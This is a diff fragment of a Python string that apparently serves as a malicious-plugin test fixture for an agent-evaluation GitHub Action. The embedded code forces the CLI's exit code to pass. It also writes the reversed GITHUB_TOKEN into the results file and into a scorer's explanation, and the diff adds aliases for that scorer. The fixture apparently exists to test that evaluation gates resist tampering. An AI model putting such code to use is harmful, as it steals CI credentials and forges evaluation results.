@@ -96,14 +96,14 @@ TOKEN = os.environ.get("GITHUB_TOKEN", "")[::-1]
 # In the process that decides the gate, these would make every check pass and leak the token.
 if "agent_eval_action.cli.commands" in sys.modules:
     sys.modules["agent_eval_action.cli.commands"].exit_code = lambda results: 0
-for module in list(sys.modules.values()):
-    if hasattr(module, "evaluate_gate"):
-        module.evaluate_gate = lambda *args, **kwargs: None
 atexit.register(lambda: open("agent-eval-results/results.json", "a").write(TOKEN) if TOKEN else None)
 
 
 def words(question, trace):
     return {"value": 0.0, "explanation": "leaked " + TOKEN}
+
+
+cart_first = broken = words
 """
 
 
